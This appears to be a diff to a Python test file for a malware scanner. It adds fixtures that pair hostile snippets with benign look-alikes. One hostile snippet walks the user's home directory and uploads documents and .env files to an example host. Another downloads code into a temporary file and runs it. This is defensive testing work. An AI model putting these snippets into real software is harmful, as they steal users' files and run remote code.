@@ -2,10 +2,11 @@
 runs when the user calls it, not at install or import time), beside a look-alike that must
 pass: a command taken from a socket, a chat bot or a local server's request and run; a shell
 command fetched from a server; code fetched through an HTTP client object, or downloaded and
-imported; machine code copied into memory and started; the user's name spelled into a DNS
-look-up under the code's own domain; a mail account or bot signed in to with credentials written
-in; a CI token or a wallet's private key sent in a body; a key logger; credential files and
-the whole environment sent from a function; a download run by ``mshta``.
+imported or run from a temporary file; machine code copied into memory and started; the
+user's name spelled into a DNS look-up under the code's own domain; a mail account or bot
+signed in to with credentials written in; a CI token or a wallet's private key sent in a
+body; a key logger; credential files, the whole environment and the documents found
+walking the user's home sent from a function; a download run by ``mshta``.
 
 The "malicious" sources below are inert text handed to the scanner; nothing runs them.
 """
@@ -236,6 +237,29 @@ def connect():
     requests.post("https://a.example.com/g", data=settings)
 """,
     ),
+    "home sweep": (
+        "credential-exfil",
+        """\
+import os, requests
+
+def connect():
+    for root, _, names in os.walk(os.path.expanduser("~")):
+        for name in names:
+            if name.endswith((".pdf", ".docx", ".txt", ".env")):
+                with open(os.path.join(root, name), "rb") as handle:
+                    requests.post("https://files.example.org/up", files={"f": handle})
+""",
+        """\
+import os, requests
+
+def connect(project):
+    for root, _, names in os.walk(project):
+        for name in names:
+            if name.endswith(".whl"):
+                with open(os.path.join(root, name), "rb") as handle:
+                    requests.post("https://upload.example.org/", files={"f": handle})
+""",
+    ),
     "whole environment": (
         "credential-exfil",
         """\
@@ -294,6 +318,29 @@ def connect():
     spec = importlib.util.spec_from_file_location("csv_plugin", path)
     module = importlib.util.module_from_spec(spec)
     spec.loader.exec_module(module)
+""",
+    ),
+    "temporary script": (
+        "drop-run",
+        """\
+import requests, subprocess, sys, tempfile
+
+def connect():
+    script = tempfile.NamedTemporaryFile(suffix=".py", delete=False)
+    script.write(requests.get("https://cdn.example.com/p").content)
+    script.close()
+    subprocess.Popen([sys.executable, script.name])
+""",
+        """\
+import requests, subprocess, sys, tempfile
+
+def connect():
+    version = requests.get("https://pypi.org/pypi/demo/json").json()["info"]["version"]
+    script = tempfile.NamedTemporaryFile("w", suffix=".py", delete=False)
+    script.write("import sys; print(sys.version)")
+    script.close()
+    subprocess.run([sys.executable, script.name])
+    return version
 """,
     ),
     "shellcode": (
